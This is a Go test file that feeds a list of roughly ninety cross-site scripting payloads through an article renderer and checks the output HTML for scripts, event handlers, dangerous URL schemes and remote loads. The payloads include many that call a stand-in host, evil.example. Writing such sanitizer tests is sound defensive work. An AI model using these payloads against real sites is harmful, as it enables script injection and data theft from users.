package edition

import (
	"encoding/json"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"stele/internal/doc"
)

// hostile are texts that want to act in a reader's browser. Each is tried as a
// whole body in every format, as a title, a name, a link and a picture.
var hostile = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`</script><script>alert(1)</script>`,
	`</style><script>alert(1)</script>`,
	`</title><script>alert(1)</script>`,
	`<img src=x onerror=alert(1)>`,
	`<img src="x` + "`" + `><script>alert(1)</script>"` + "`" + `>`,
	`<img/src=x/onerror=alert(1)//`,
	`<IMG """><SCRIPT>alert("XSS")</SCRIPT>">`,
	`<img srcset="//evil.example/a.png 2x" src=a.png>`,
	`<img src="//evil.example/a.png">`,
	`<img src="/\evil.example/a.png">`,
	"<img src=\"/\t/evil.example/a.png\">",
	"<img src=\"\n//evil.example/a.png\">",
	`<img src="https://evil.example/a.png" alt="counter">`,
	`<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
	`<svg onload=alert(1)>`,
	`<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>`,
	`<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<svg><script href="data:text/javascript,alert(1)"/></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
	`<math href="javascript:alert(1)">x</math>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
	`<template><script>alert(1)</script></template>`,
	`<iframe src="javascript:alert(1)"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<object data="data:text/html,<script>alert(1)</script>"></object>`,
	`<embed src="//evil.example/x.swf">`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href="JaVaScRiPt:alert(1)">x</a>`,
	"<a href=\"java\tscript:alert(1)\">x</a>",
	"<a href=\"java\nscript:alert(1)\">x</a>",
	"<a href=\"\x01javascript:alert(1)\">x</a>",
	`<a href=" javascript:alert(1)">x</a>`,
	`<a href="&#106;&#97;vascript&colon;alert(1)">x</a>`,
	`<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
	`<a href="x" onclick="alert(1)" onmouseover=alert(1) style="position:fixed;inset:0">x</a>`,
	`<a href="https://ok.example" target="_blank" ping="https://evil.example">x</a>`,
	`[x](javascript:alert(1))`,
	`[x](<java script:alert(1)>)`,
	`[x](data:text/html,<script>alert(1)</script>)`,
	`[x]: javascript:alert(1)` + "\n\n[x]",
	`<javascript:alert(1)>`,
	`![x](javascript:alert(1))`,
	`![x](https://evil.example/pixel.png)`,
	`![x](//evil.example/pixel.png)`,
	`![" onerror="alert(1)](x.png "\" onload=\"alert(1)")`,
	"```\"><script>alert(1)</script>\nx\n```",
	"## x {onclick=alert(1) style=\"background:url(//evil.example)\"}",
	`x[^1]` + "\n\n" + `[^1]: <script>alert(1)</script><img src=x onerror=alert(1)>`,
	`x[^"><script>alert(1)</script>]` + "\n\n" + `[^"><script>alert(1)</script>]: y`,
	`<div style="background:url(//evil.example/x)">x</div>`,
	`<p style="behavior:url(x.htc);width:expression(alert(1))">x</p>`,
	`<style>@import url(//evil.example/x.css);body{display:none}</style>`,
	`<link rel=stylesheet href="//evil.example/x.css">`,
	`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
	`<base href="https://evil.example/">`,
	`<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>`,
	`<input autofocus onfocus=alert(1)>`,
	`<input type=image src="//evil.example/x.png">`,
	`<video><source onerror=alert(1)></video>`,
	`<audio src=x onerror=alert(1)>`,
	`<details open ontoggle=alert(1)>x</details>`,
	`<marquee onstart=alert(1)>x</marquee>`,
	`<body onload=alert(1)>`,
	`<table background="//evil.example/x.png"><td background="javascript:alert(1)">x`,
	`<b><i><u><p><li><td>unclosed <a href="x`,
	`</div></article></main></body></html><script>alert(1)</script>`,
	`<!--><script>alert(1)</script>-->`,
	`<!-- --!><img src=x onerror=alert(1)> -->`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`<?xml-stylesheet href="javascript:alert(1)"?>`,
	`<textarea></textarea><img src=x onerror=alert(1)>`,
	`<select><option></select><img src=x onerror=alert(1)>`,
	`<xmp></xmp><img src=x onerror=alert(1)>`,
	`<plaintext><img src=x onerror=alert(1)>`,
	`<span class="stele-fallback" data-state="missing" lang="&quot;><script>alert(1)</script>" onclick=alert(1)>x</span>`,
	`<span data-stele="0" id="ed-text">x</span><a id="ed-note-1" href="#ed-note-1">1</a>`,
	`<p lang="en" dir="rtl" id="x y" id='"><script>'>x</p>`,
	`"><script>alert(1)</script>`,
	`' onmouseover='alert(1)`,
	`{{.Style}}{{template "x"}}<%= 1 %>`,
	"\u2028</script>\u2029<!--<script>",
	strings.Repeat("<div>", 700) + "<script>alert(1)</script>",
	strings.Repeat("<b><a href=javascript:alert(1)>", 60),
	strings.Repeat("> ", 300) + "<img src=x onerror=alert(1)>",
}

func TestHostile(t *testing.T) {
	for _, text := range hostile {
		for _, a := range hostileArticles(text) {
			e, err := New(a, Options{Site: text})
			if err != nil {
				t.Fatal(err)
			}
			page, err := e.HTML()
			if err != nil {
				t.Errorf("%.80q: %v", text, err)
				continue
			}
			if bad := harm(string(page)); bad != "" {
				t.Errorf("%.120q as %s: %s", text, a.ID, bad)
			}
			e.Markdown()
		}
	}
}

func FuzzHostile(f *testing.F) {
	for _, text := range hostile {
		f.Add(text)
	}
	f.Fuzz(func(t *testing.T, text string) {
		for _, a := range hostileArticles(text) {
			e, err := New(a, Options{})
			if err != nil {
				t.Fatal(err)
			}
			page, err := e.HTML()
			if err != nil {
				t.Fatal(err)
			}
			if bad := harm(string(page)); bad != "" {
				t.Errorf("%q as %s: %s", text, a.ID, bad)
			}
		}
	})
}

// hostileArticles puts a text wherever an article takes text.
func hostileArticles(text string) []Article {
	var out []Article
	for _, format := range []string{"markdown", "html", "text"} {
		body := whole(format, "tr", text)
		src := whole(format, "en", text)
		bio := whole("markdown", "en", text)
		out = append(out,
			Article{ID: format + " body", Locale: "tr", Source: src, Version: body},
			Article{ID: format + " fallback", Locale: "tr", Source: src, Version: body, Rows: []Row{{Source: []int{0}, Target: []int{0}, State: StateUntranslated}}},
			Article{ID: format + " insertion", Locale: "tr", Source: src, Version: whole(format, "tr", "x"), Rows: []Row{{Source: []int{0}, State: StateMissing, Language: text}}},
			Article{ID: format + " people", Locale: "tr", Source: src, URL: text,
				People: []Person{{ID: text, Name: text, Role: Author, Bio: bio, BioLocale: text, Photo: text, PhotoAlt: text, Links: []Link{{text, text}}}},
				Others: []Other{{Locale: "en", Href: text, Title: text, URL: text}}},
		)
	}
	meta := whole("markdown", "en", "x")
	meta.Meta = map[string][]string{"title": {text}, "date": {text}, "author": {text}, "translator": {text}, "description": {text}}
	return append(out, Article{ID: "metadata", Locale: "en", Source: meta})
}

// whole is a version that is one paragraph.
func whole(format, locale, text string) *doc.Version {
	return &doc.Version{Path: "x", Locale: locale, Format: format, Source: []byte(text), Segments: []doc.Segment{
		{Kind: doc.Paragraph, Span: doc.Span{End: len(text)}, Line: 1, EndLine: 1 + strings.Count(text, "\n"), Text: text},
	}}
}

var harmless = map[string]bool{"charset": true, "name": true, "property": true, "content": true, "http-equiv": true}

// harm says what in a page could act or ask another host for something, "" when
// nothing could.
func harm(page string) string {
	root, err := html.Parse(strings.NewReader(page))
	if err != nil {
		return err.Error()
	}
	scripts, styles, csp := 0, 0, 0
	for n := range root.Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		if n.Namespace != "" {
			return "foreign element " + n.Data
		}
		switch n.Data {
		case "script":
			scripts++
			if attr(n, "type") != "application/ld+json" || len(n.Attr) != 1 || n.FirstChild == nil || !json.Valid([]byte(n.FirstChild.Data)) {
				return "script"
			}
		case "style":
			styles++
			if !inside(n, "head") {
				return "style in the body"
			}
		case "meta":
			for _, a := range n.Attr {
				if !harmless[a.Key] {
					return "meta " + a.Key
				}
			}
			if v := attr(n, "http-equiv"); v != "" {
				csp++
			}
			if inside(n, "body") {
				return "meta in the body"
			}
		case "link":
			if r := attr(n, "rel"); r != "canonical" && r != "alternate" || inside(n, "body") {
				return "link"
			}
		case "iframe", "object", "embed", "form", "base", "svg", "math", "video", "audio", "source", "button", "textarea",
			"select", "template", "noscript", "frame", "frameset", "applet", "portal", "marquee", "xmp", "plaintext":
			return n.Data
		}
		if bad := harmAttr(n); bad != "" {
			return bad
		}
	}
	if scripts != 1 || styles != 1 || csp != 1 {
		return "not exactly one description, style sheet and policy"
	}
	return ""
}

func harmAttr(n *html.Node) string {
	for _, a := range n.Attr {
		value := strings.ToLower(strings.Map(func(r rune) rune {
			if r <= ' ' || r == 0x7f {
				return -1
			}
			return r
		}, a.Val))
		switch {
		case strings.HasPrefix(a.Key, "on"):
			return "attribute " + a.Key
		case a.Key == "style" && !strings.HasPrefix(value, "text-align:"):
			return "style " + a.Val
		case a.Key == "src" && (strings.HasPrefix(value, "//") || strings.Contains(value, "\\") || schemeOf(value) != ""):
			return "picture " + a.Val
		case a.Key == "href":
			if scheme := schemeOf(value); scheme != "" && scheme != "http" && scheme != "https" && scheme != "mailto" && scheme != "tel" {
				return "link " + a.Val
			}
		case a.Key == "srcset", a.Key == "background", a.Key == "action", a.Key == "formaction", a.Key == "ping", a.Key == "srcdoc", a.Key == "data", a.Key == "autofocus":
			return "attribute " + a.Key
		}
	}
	return ""
}

// schemeOf is an address's scheme as a browser reads it.
func schemeOf(address string) string {
	scheme, _, has := strings.Cut(address, ":")
	if !has || strings.ContainsAny(scheme, "/?#%&") {
		return ""
	}
	return scheme
}
